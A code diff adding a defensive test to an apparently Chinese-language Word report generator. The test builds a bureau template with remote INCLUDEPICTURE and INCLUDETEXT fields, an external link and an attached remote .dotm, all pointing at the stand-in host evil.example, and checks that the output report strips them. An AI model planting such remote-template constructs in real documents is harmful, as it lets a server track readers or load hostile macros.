@@ -13,6 +13,7 @@ import shutil
 import subprocess
 import time
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -283,6 +284,65 @@ def test_a_reference_template_restyles_by_its_own_styles(tmp_path: Path) -> None
     assert doc.styles["Title"].font.name == "方正小标宋简体" and doc.styles["Title"].font.size == Pt(24)
     assert doc.styles["Normal"].font.name == "仿宋_GB2312"
     assert doc.styles["表格文字"].font.size.pt == SETTINGS["styles"]["表格文字"]["size"]
+
+
+def _zip_edit(path: Path, edits: dict[str, Callable[[str], str]]) -> None:
+    """Rewrite members of the .docx at `path` (a missing member starts empty), as a hand-edited file would be."""
+    with zipfile.ZipFile(path) as source:
+        members = {info.filename: source.read(info) for info in source.infolist()}
+    for name, edit in edits.items():
+        members[name] = edit(members.get(name, b"").decode("utf-8")).encode("utf-8")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in members.items():
+            target.writestr(name, data)
+
+
+def test_a_reference_templates_remote_parts_do_not_reach_the_reports(tmp_path: Path) -> None:
+    """A template attached to a remote .dotm, with INCLUDEPICTURE/INCLUDETEXT fields from a web server and a link in
+    its 红头: every report made from it would fetch them (and tell the server who opened it)."""
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.oxml import OxmlElement
+
+    from helpers.report.word import _field
+
+    bureau = Document()
+    header = bureau.sections[0].header
+    paragraph = header.paragraphs[0]
+    paragraph.add_run("河源市市场监督管理局")
+    _field(paragraph, 'INCLUDEPICTURE "http://evil.example/logo.png" \\d', "徽标")
+    paragraph._p.append(OxmlElement("w:fldSimple", {qn("w:instr"): 'INCLUDETEXT "http://evil.example/t.docx"'}))
+    link = OxmlElement("w:hyperlink", {qn("r:id"): header.part.relate_to("http://evil.example/", RT.HYPERLINK,
+                                                                           is_external=True)})
+    link.append(OxmlElement("w:r"))
+    link[0].append(OxmlElement("w:t"))
+    link[0][0].text = "局网站"
+    paragraph._p.append(link)
+    bureau.add_paragraph().add_run()
+    _field(bureau.paragraphs[-1], 'INCLUDETEXT "http://evil.example/body.docx"', "正文")
+    template = tmp_path / "bureau.docx"
+    bureau.save(str(template))
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxml'
+            'formats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
+            'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/normal.dotm" '
+            'TargetMode="External"/></Relationships>')
+    _zip_edit(template, {
+        "word/settings.xml": lambda xml: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', xml),
+        "word/_rels/settings.xml.rels": lambda _: rels})
+    with zipfile.ZipFile(template) as check:  # the template is what the issue describes
+        assert "attachedTemplate" in check.read("word/settings.xml").decode()
+
+    edition = Edition(SETTINGS, template)
+    edition.add("<section><h1>报告标题</h1><p>正文。</p></section>")
+    out = edition.save(tmp_path / "out.docx")
+    with zipfile.ZipFile(out) as docx:
+        parts = {name: docx.read(name).decode("utf-8", "replace") for name in docx.namelist()}
+    everything = "".join(parts.values())
+    assert 'TargetMode="External"' not in everything
+    for gone in ("evil.example", "INCLUDEPICTURE", "INCLUDETEXT", "attachedTemplate"):
+        assert gone not in everything, gone
+    doc = Document(str(out))
+    assert doc.sections[0].header.paragraphs[0].text == "河源市市场监督管理局局网站", "the 红头's text stays"
+    assert [p.text for p in doc.paragraphs] == ["报告标题", "正文。"]
 
 
 def test_a_reference_template_must_be_a_docx_in_the_project(tmp_path: Path) -> None:
